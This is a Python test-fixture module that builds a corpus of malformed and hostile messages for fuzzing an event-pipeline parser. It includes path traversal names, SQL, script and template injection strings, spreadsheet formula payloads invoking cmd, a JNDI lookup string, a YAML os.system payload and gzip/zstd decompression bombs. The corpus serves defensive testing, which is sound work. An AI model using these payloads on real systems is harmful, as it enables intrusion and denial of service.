"""A corpus of hostile payloads and names, the same each time: what no sound producer would send.

``RAW`` are whole messages, ``TEXTS`` are payloads in a sound envelope (JSON or nearly), ``NAMES``
are texts for whatever people, sources and producers name. ``huge`` are the few large ones.
"""

from __future__ import annotations

import gzip
import json
import random
from collections.abc import Iterator

import zstandard

SEED = 20260305
MIB = 1024**2
BOMB_BYTES = 64 * MIB
ENVELOPE = {
    "specversion": "1.0",
    "id": "e1",
    "source": "team/p1",
    "type": "order",
    "time": "2026-01-01T00:00:00Z",
    "subject": "[1]",
    "version": "1/1",
    "intakeminute": 29_000_000,
    "stage": "transformation",
    "attempt": 0,
}
_SMALL_BOMB = zstandard.ZstdCompressor(level=19).compress(bytes(4 * MIB))

NAMES: tuple[str, ...] = (
    "", " ", "  x  ", ".", "..", "/", "//", "../", "../..", "../../../../etc/passwd",
    "..\\..\\windows\\win.ini", "a/../../b", "/absolute", "C:\\con", "con", "nul", "~", "~root",
    "parked/2026/01/01/x.jsonl.zst", "staged/x.wbs", "payloads/p1/e1", "a?b=c", "a#b", "%2e%2e%2f",
    "%00", "%zz", "a&b", "a;b", "a|b", "$(id)", "`id`", "${HOME}", "{}", "{0}", "%s%n", "\\", "\\0",
    "\\u0000", "\\ud800", "'", '"', "''", "' OR '1'='1", "'; DROP TABLE segments; --", "a'b\"c`d",
    "*", "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", " =1",
    "\ufeff=1", "\u200b=1", "\uff1d1+1", "<script>alert(1)</script>", "a,b", "a\tb", "a\nb",
    "a\r\nb", "\r", "\n", "\x00", "a\x00b", "\x00=1", "\x01", "\x07\x08", "\x1b[2J", "\x7f", "\x85",
    "\u2028", "\u2029", "\u202e", "abc\u202egpj.exe", "\u200f", "\u200b", "\ufeff", "\ufffd",
    "\uffff", "\U0010ffff", "\ud800", "\udfff", "a\udc80b", "\udc00\ud800", "\ud83d", "😀", "👩‍👩‍👧‍👦",
    "🇨🇭", "é", "e\u0301", "ß", "İ", "\u0131", "ﷺ", "Z̸̡a̷l̶g̸o̷", "中文", "עברית", "العربية", "ไทย", "x" * 255,
    "x" * 256, "x" * 300, "é" * 300, "😀" * 300, "../" * 100, "x" * 511, "x" * 512, "x" * 513,
    "x" * 1025, "\ud800" * 300, "\x00" * 300, "x" * 5000, "=" * 300, '},"event":', '"},"event":{}}',
    "null", "None", "true", "NaN", "0", "-0", "1e999", "undefined", "unknown", "__class__",
    "pipeline_held", "\x1f\x8b", "x~0123456789abcdef",
)  # fmt: skip
"""Event names, pipeline ids, keys, ids, error types, messages: 130 of them."""


def _spoiled(seed: int) -> Iterator[tuple[str, bytes]]:
    """Yield sound messages cut and changed at random."""
    chance = random.Random(seed)
    whole = message(b'{"id":1,"n":2,"text":"\xc3\xa9 \xf0\x9f\x98\x80 \\ud83d\\ude00"}')
    for cut in (1, 5, len(whole) // 2, len(whole) - 2, len(whole) - 1):
        yield f"cut at {cut}", whole[:cut]
    for number in range(12):
        changed = bytearray(whole)
        for _ in range(3):
            changed[chance.randrange(len(changed))] = chance.randrange(256)
        yield f"changed {number}", bytes(changed)


def message(data: bytes, **changes: object) -> bytes:
    """Return a message in the envelope, with these bytes where its payload stands."""
    head = json.dumps({**ENVELOPE, **changes}).encode()
    return head[:-1] + b',"data":' + data + b"}"


def without_data(**changes: object) -> bytes:
    """Return a message that is the envelope only; what is None is left out."""
    attributes = {**ENVELOPE, **changes}
    return json.dumps({n: v for n, v in attributes.items() if v is not None}).encode()


TEXTS: dict[str, bytes] = {
    "empty": b"",
    "blank": b" ",
    "null": b"null",
    "true": b"true",
    "number": b"1",
    "text": b'"x"',
    "list": b"[1,2]",
    "no fields": b"{}",
    "empty name": b'{"":1}',
    "NaN": b'{"id":1,"n":NaN}',
    "Infinity": b'{"id":1,"n":Infinity}',
    "minus Infinity": b'{"id":1,"n":-Infinity}',
    "exponent beyond doubles": b'{"id":1,"n":1e999}',
    "exponent beyond decimals": b'{"id":1,"n":1e99999999999999999999}',
    "tiny": b'{"id":1,"n":1e-999999}',
    "long exponent": b'{"id":1,"n":1e%s1}' % (b"0" * 5000),
    "minus zero": b'{"id":1,"n":-0.0}',
    "2^63": b'{"id":9223372036854775808,"n":1}',
    "2^64": b'{"id":18446744073709551616,"n":1}',
    "100 digits": b'{"id":1,"n":%s}' % (b"9" * 100),
    "4,300 digits": b'{"id":1,"n":%s}' % (b"9" * 4300),
    "5,000 digits": b'{"id":1,"n":%s}' % (b"9" * 5000),
    "100,000 digits": b'{"id":1,"n":%s}' % (b"9" * 100_000),
    "long decimal": b'{"id":1,"n":1.0000000000000000000000000000001}',
    "10,000 decimals": b'{"id":1,"n":0.%s}' % (b"3" * 10_000),
    "leading zero": b'{"id":01}',
    "plus": b'{"id":+1}',
    "hexadecimal": b'{"id":0x1}',
    "bare point": b'{"id":1.}',
    "duplicate keys": b'{"id":1,"id":2,"n":1}',
    "duplicate keys, escaped": b'{"id":1,"\\u0069d":2,"n":1}',
    "proto": b'{"id":1,"__proto__":{"n":1},"__class__":"x"}',
    "trailing comma": b'{"id":1,}',
    "comment": b'{"id":1/*x*/}',
    "single quotes": b"{'id':1}",
    "two values": b'{"id":1}{"id":2}',
    "two values, comma": b'{"id":1},{"id":2}',
    "closes the envelope": b'{"id":1}},"x":{}',
    "an attribute twice": b'{"id":1},"stage":"mapping"',
    "data twice": b'{"id":1},"data":{"id":2}',
    "line break": b'{\n"id":1\n}',
    "CRLF": b'{\r\n"id":1\r\n}\r\n',
    "CR": b'{"id":1}\r',
    "line break in text": b'{"id":1,"n":"a\nb"}',
    "tab in text": b'{"id":1,"n":"a\tb"}',
    "NUL in text": b'{"id":1,"n":"a\x00b"}',
    "NUL escaped": b'{"id":1,"n":"a\\u0000b"}',
    "control escaped": b'{"id":1,"n":"\\u0001\\u001b[2J\\u0007"}',
    "DEL": b'{"id":1,"n":"\x7f"}',
    "lone high": b'{"id":1,"n":"\\ud800"}',
    "lone low": b'{"id":1,"n":"\\udc00"}',
    "reversed pair": b'{"id":1,"n":"\\udc00\\ud800"}',
    "lone in a name": b'{"id":1,"\\udfff":1}',
    "lone surrogate in UTF-8": b'{"id":1,"n":"\xed\xa0\x80"}',
    "half an escape": b'{"id":1,"n":"\\u12"}',
    "unknown escape": b'{"id":1,"n":"\\x41"}',
    "invalid UTF-8": b'{"id":1,"n":"\xff\xfe"}',
    "overlong UTF-8": b'{"id":1,"n":"\xc0\xaf"}',
    "cut UTF-8": b'{"id":1,"n":"\xf0\x9f\x98"}',
    "beyond Unicode": b'{"id":1,"n":"\xf4\x90\x80\x80"}',
    "Latin-1": '{"id":1,"n":"é"}'.encode("latin-1"),
    "emoji": '{"id":1,"n":"😀👩‍👩‍👧‍👦"}'.encode(),
    "right to left": '{"id":1,"n":"\u202e\u200f\u2066"}'.encode(),
    "line separators": '{"id":1,"n":"\u2028\u2029\x85"}'.encode(),
    "BOM in text": '{"id":1,"n":"\ufeff"}'.encode(),
    "BOM before": b'\xef\xbb\xbf{"id":1}',
    "noncharacters": '{"id":1,"n":"\ufffe\uffff\U0010ffff"}'.encode(),
    "combining": '{"id":1,"n":"a%s"}'.replace("%s", "\u0301" * 2000).encode(),
    "formula": b'"=cmd|\' /C calc\'!A0"',
    "minus formula": b"-1",
    "formula in a field": b'{"id":1,"n":"=1+1"}',
    "what ends a line's error": b'{"id":1,"n":"},\\"event\\":","e":{"error":1},"event":{}}',
    "a parked line": b'{"error":{"error_type":"x"},"event":{"id":1}}',
    "base64": b'{"id":1,"event_base64":"AAAA"}',
    "nested 100": b'{"id":1,"n":%s}' % (b"[" * 100 + b"]" * 100),
    "nested 254": b'{"id":1,"n":%s}' % (b"[" * 254 + b"]" * 254),
    "nested 900": b'{"id":1,"n":%s}' % (b"[" * 900 + b"]" * 900),
    "nested 1,024": b"[" * 1024 + b"]" * 1024,
    "nested objects 5,000": b'{"a":' * 5000 + b"1" + b"}" * 5000,
    "nested 100,000": b"[" * 100_000 + b"]" * 100_000,
    "opened 100,000": b"[" * 100_000,
    "opened objects": b'{"a":' * 50_000,
    "many fields": json.dumps({f"f{n}": n for n in range(5000)}).encode(),
    "long field name": b'{"%s":1}' % (b"x" * 100_000),
    "many equal keys": b"{%s}" % b",".join([b'"a":1'] * 20_000),
    "many strings": json.dumps(["x"] * 50_000).encode(),
    "SQL": b'{"id":1,"n":"\'; DROP TABLE orders; --"}',
    "HTML": b'{"id":1,"n":"<script>alert(1)</script>"}',
    "template": b'{"id":1,"n":"{{7*7}} ${jndi:ldap://x} %n%s {0.__class__}"}',
    "backslashes": b'{"id":1,"n":"%s"}' % (b"\\\\" * 3000),
    "quotes": b'{"id":1,"n":"%s"}' % (b'\\"' * 3000),
}  # fmt: skip
"""Payloads in an envelope, by what is odd about them."""

RAW: dict[str, bytes] = {
    "nothing": b"",
    "blank": b" ",
    "line break": b"\n",
    "CRLF": b"\r\n",
    "NUL": b"\x00",
    "many NULs": bytes(10_000),
    "0xff": b"\xff",
    "UTF-16": '{"id":1}'.encode("utf-16"),
    "UTF-32": '{"id":1}'.encode("utf-32"),
    "BOM": b"\xef\xbb\xbf",
    "BOM and message": b"\xef\xbb\xbf" + message(b"{}"),
    "null": b"null",
    "NaN": b"NaN",
    "a number": b"1",
    "a text": b'"x"',
    "lone surrogate": b'"\\ud800"',
    "a list": b"[]",
    "no attributes": b"{}",
    "formula": b"=1+1",
    "formula behind a BOM": "\ufeff=1+1".encode(),
    "formula behind NUL": b"\x00=1+1",
    "plus formula": b"+1+1",
    "at formula": b"@SUM(1+1)*cmd|' /C calc'!A0",
    "tab formula": b"\t=1+1",
    "full-width formula": "\uff1d1+1".encode(),
    "an apostrophe": b"'=1",
    "CSV": b'a,"b""c"\r\nd,e\r\n',
    "XML": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
    "pickle": b"\x80\x04\x95\x0c\x00\x00\x00\x00\x00\x00\x00\x8c\x08builtins.",
    "YAML": b"!!python/object/apply:os.system ['true']",
    "all bytes": bytes(range(256)),
    "gzip": gzip.compress(b"x", mtime=0),
    "gzip bomb": gzip.compress(bytes(8 * MIB), mtime=0),
    "zstd bomb": _SMALL_BOMB,
    "zstd bombs": _SMALL_BOMB * 50,
    "zstd magic": b"\x28\xb5\x2f\xfd",
    "zstd that claims 2^60 bytes": b"\x28\xb5\x2f\xfd\xe0" + (2**60).to_bytes(8, "little"),
    "a skippable frame": b"\x50\x2a\x4d\x18\x04\x00\x00\x00WBP1",
    "an object's end": b"\x00\x00\x00\x00WBP1",
    "a parked line": b'{"error":{"error_type":"x"},"event":{}}\n',
    "random": random.Random(SEED).randbytes(5000),
    "[ 100,000": b"[" * 100_000,
    "message and line break": message(b'{"id":1}') + b"\n",
    "message and CRLF": b"\r\n" + message(b'{"id":1}') + b"\r\n",
    "two messages": message(b"{}") * 2,
    "blanks around": b" \t" + message(b'{"id":1,"n":1}') + b" \t",
    "attributes twice": message(b"{}")[:-1] + b',"id":"e2","source":"team/p2"}',
    "no id": without_data(id=None),
    "no source": without_data(source=None),
    "no type": without_data(type=None),
    "no version": without_data(version=None),
    "no data": without_data(),
    "id is a number": without_data(id=1),
    "type is a list": without_data(type=[]),
    "source is null": message(b"{}")[:-1] + b',"source":null}',
    "source without a slash": without_data(source="p1"),
    "source of slashes": without_data(source="///"),
    "version of words": without_data(version="x/y"),
    "version beyond 64 bits": without_data(version="f" * 17 + "/1"),
    "version of 100,000 digits": without_data(version="f" * 100_000 + "/1"),
    "negative intake version": without_data(version="1/-1"),
    "intake minute beyond 32 bits": without_data(intakeminute=2**31),
    "intake minute of 5,000 digits": message(b"1").replace(b"29000000", b"9" * 5000),
    "intake minute is a fraction": without_data(intakeminute=1.5),
    "intake minute is true": without_data(intakeminute=True),
    "negative attempt": without_data(attempt=-1),
    "attempt 2^31-1": without_data(attempt=2**31 - 1),
    "unknown stage": without_data(stage="../mapping"),
    "ingestion": without_data(stage="ingestion"),
    "unknown op": without_data(op="truncate"),
    "op is a list": without_data(op=[]),
    "replayid is a number": without_data(replayid=1),
    "dataref is a number": without_data(dataref=1),
    "dataref is empty": without_data(dataref=""),
    "base64 with rubbish": without_data(data_base64="AA A="),
    "base64 is a number": without_data(data_base64=7),
    "base64 beyond ASCII": without_data(data_base64="é"),
    "base64 of a gzip bomb": without_data(data_base64="H4sIAAAAAAAC/w=="),
    "time is no time": without_data(time="yesterday"),
    "time of year 9999": message(b'{"id":1}', time="9999-12-31T23:59:59-23:59"),
    "time of year 1": message(b'{"id":1}', time="0001-01-01T00:00:00+23:59"),
    "time of 100,000 characters": message(b'{"id":1}', time="2026" * 25_000),
    "unknown attributes": without_data(**{f"x{n}": n for n in range(1000)}),
    **dict(_spoiled(SEED)),
}  # fmt: skip
"""Whole messages, by what is odd about them."""


def huge() -> dict[str, bytes]:
    """Return the few payloads of 50 MB: one text, one line that shrinks to nothing, one of noise."""
    noise = random.Random(SEED).randbytes(25_000_000).hex().encode()
    return {
        "50 MB of one letter": b'{"id":1,"n":"%s"}' % (b"x" * 50_000_000),
        "50 MB that are no JSON": b"\x00" * 50_000_000,
        "50 MB of noise": b'{"id":1,"n":"%s"}' % noise,
    }


def bombs() -> dict[str, bytes]:
    """Return what a claim check may name: objects that are small until somebody unpacks them."""
    return {
        "gzip": gzip.compress(bytes(BOMB_BYTES), mtime=0),
        "zstd": zstandard.ZstdCompressor(level=19).compress(bytes(BOMB_BYTES)),
        "zstd in zstd": zstandard.ZstdCompressor().compress(_SMALL_BOMB * 50),
    }


def named(name: str) -> dict[str, bytes]:
    """Return messages that carry a name wherever the wire takes one."""
    payload = b'{"id":1,"n":1}'
    return {
        "type": message(payload, type=name),
        "pipeline": message(payload, source=f"team/{name}"),
        "team": message(payload, source=f"{name}/p1"),
        "id": message(payload, id=name),
        "subject": message(payload, subject=name),
        "time": message(payload, time=name),
        "replayid": message(payload, replayid=name, attempt=1),
        "dataref": without_data(dataref=name),
    }


def messages() -> list[bytes]:
    """Return every message of the corpus but the huge ones, names in one place each."""
    places = ("type", "pipeline", "id", "subject", "time", "replayid", "dataref")
    carried = [named(name)[places[n % len(places)]] for n, name in enumerate(NAMES)]
    return [*RAW.values(), *map(message, TEXTS.values()), *carried]
